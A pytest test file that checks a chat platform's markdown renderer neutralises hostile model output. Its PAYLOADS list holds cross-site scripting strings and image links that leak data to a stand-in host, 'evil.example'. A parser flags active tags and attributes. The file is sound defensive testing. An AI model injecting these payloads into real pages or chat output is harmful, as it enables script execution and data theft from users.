"""Model text is hostile text: what the renderer lets through."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from chatplatform.chat.markdown import render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    '<https://evil.example/"onmouseover="alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "```<script>\nx\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "[a](https://x.example \"' onmouseover=alert(1) '\")",
    "| <b onclick=x> | b |\n|--|--|\n| <a href=javascript:x> | 2 |",
]
ACTIVE = {
    "script",
    "img",
    "svg",
    "iframe",
    "style",
    "object",
    "embed",
    "link",
    "meta",
    "form",
    "input",
    "video",
}


class Finder(HTMLParser):
    """Finds whatever a browser could run or load."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "src", "srcset", "formaction"}:
                self.found.append(name)
            if name == "href" and not (value or "").startswith(("http://", "https://", "mailto:")):
                self.found.append(f"href={value}")


def is_inert(html: str) -> bool:
    return not Finder(html).found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_is_inert(payload: str) -> None:
    assert is_inert(render(payload))


def test_the_check_would_notice() -> None:
    assert not is_inert("<p><img src=x></p>")
    assert not is_inert('<a href="javascript:x">x</a>')
    assert not is_inert("<p onclick=x>")


def test_the_public_list_of_payloads_is_inert() -> None:
    lists = sorted(Path("../shared/data/security").rglob("*.txt"))
    if not lists:
        pytest.skip("benchmark data is not here")
    for path in lists:
        for line in path.read_text(errors="replace").splitlines():
            assert is_inert(render(line)), line


def test_images_become_links_and_links_open_apart() -> None:
    html = render("![a map](https://maps.example/m.png)")
    assert html == (
        '<p dir="auto"><a href="https://maps.example/m.png" target="_blank"'
        ' rel="noopener noreferrer nofollow">a map</a></p>\n'
    )


def test_code_is_highlighted_and_named() -> None:
    html = render("```js\nconst a = '<b>';\n```")
    assert 'data-language="JavaScript"' in html
    assert '<span class="kd">const</span>' in html
    assert "&lt;b&gt;" in html


def test_an_unknown_language_keeps_its_name() -> None:
    assert 'data-language="klingon"' in render("```klingon\nx\n```")
